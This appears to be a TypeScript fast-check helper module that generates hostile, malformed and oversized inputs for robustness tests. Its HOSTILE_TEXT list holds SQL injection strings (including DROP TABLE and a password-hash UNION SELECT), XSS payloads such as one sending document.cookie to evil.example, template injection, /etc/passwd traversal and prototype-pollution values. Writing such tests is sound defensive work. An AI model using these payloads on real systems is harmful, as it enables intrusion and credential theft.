import fc from "fast-check";

/** Text an attacker or a careless paste would send: SQL, HTML, template and path tricks, unicode edge cases. */
export const HOSTILE_TEXT = [
  "' OR '1'='1",
  `'; DROP TABLE "Account"; --`,
  `" UNION SELECT "passwordHash" FROM "User" --`,
  "<script>alert(document.cookie)</script>",
  `<img src=x onerror="fetch('//evil.example/'+document.cookie)">`,
  "javascript:alert(1)",
  "{{constructor.constructor('return process')()}}",
  "${process.exit(1)}",
  "../../../../etc/passwd",
  "%s%s%s%n",
  "\u202Egnp.exe",
  "Z\u0351\u0364\u0358a\u0352\u0361l\u0350go",
  "👩‍👩‍👧‍👦🏳️‍🌈🧨",
  "𝕳𝖊𝖑𝖑𝖔 ﷽ ǅ ß İ",
  "\uFEFFzero\u200Bwidth",
  "\uD800 lone surrogate",
  "__proto__",
  "constructor",
  "null",
  "NaN",
  "-1",
  "1e309",
];

/** Values that no field of any action may accept: wrong types, non-finite numbers, over-long text, deep nesting. */
export const poisonValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(Number.NaN, Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY),
  fc
    .tuple(fc.constantFrom(...HOSTILE_TEXT), fc.integer({ min: 20_000, max: 60_000 }))
    .map(([text, n]) => text.repeat(Math.ceil(n / text.length))),
  fc.constant({ $ne: null }),
  fc.constant({ toString: "x", valueOf: 7, __proto__: { admin: true } }),
  fc.constant([[["deep"]]]),
  fc.integer({ min: 5_000, max: 10_000 }).map((n) => Array.from({ length: n }, () => "x")),
);

/** Anything a client could encode, well beyond JSON: dates, maps, sets, big integers, typed and sparse arrays. */
export const junkValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.anything({
    maxDepth: 3,
    withBigInt: true,
    withDate: true,
    withMap: true,
    withSet: true,
    withTypedArray: true,
    withSparseArray: true,
    withNullPrototype: true,
    withBoxedValues: true,
  }),
  fc.constantFrom(...HOSTILE_TEXT),
  fc.string({ unit: "binary", maxLength: 200 }),
  fc.constantFrom(undefined, null, "", 0, -0, -1, Number.MAX_SAFE_INTEGER + 2, true, false, [], {}),
  poisonValue,
);

/** Short hostile text for free-text fields, where it may be stored (and must come back as typed results). */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...HOSTILE_TEXT),
  fc.string({ unit: "grapheme", minLength: 1, maxLength: 120 }),
  fc.string({ unit: "binary", minLength: 1, maxLength: 60 }),
  fc.tuple(fc.constantFrom(...HOSTILE_TEXT), fc.string({ maxLength: 20 })).map(([a, b]) => `${b}${a}${b}`),
);

const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;
export const isUuid = (value: unknown): value is string => typeof value === "string" && UUID.test(value);

export type Path = (string | number)[];

/** Every path to a leaf (non-object, non-array value, or an empty container) of a JSON-like value. */
export function leafPaths(value: unknown, prefix: Path = []): Path[] {
  if (Array.isArray(value)) {
    return value.length === 0 ? [prefix] : value.flatMap((v, i) => leafPaths(v, [...prefix, i]));
  }
  if (value && typeof value === "object") {
    const entries = Object.entries(value);
    return entries.length === 0 ? [prefix] : entries.flatMap(([k, v]) => leafPaths(v, [...prefix, k]));
  }
  return [prefix];
}

/** A copy of `value` with the thing at `path` replaced. */
export function replaceAt(value: unknown, path: Path, replacement: unknown): unknown {
  if (path.length === 0) return replacement;
  const [head, ...rest] = path;
  const copy = (Array.isArray(value) ? [...value] : { ...(value as object) }) as Record<string | number, unknown>;
  copy[head!] = replaceAt(copy[head!], rest, replacement);
  return copy;
}

export function valueAt(value: unknown, path: Path): unknown {
  return path.reduce<unknown>((v, key) => (v as Record<string | number, unknown> | undefined)?.[key], value);
}
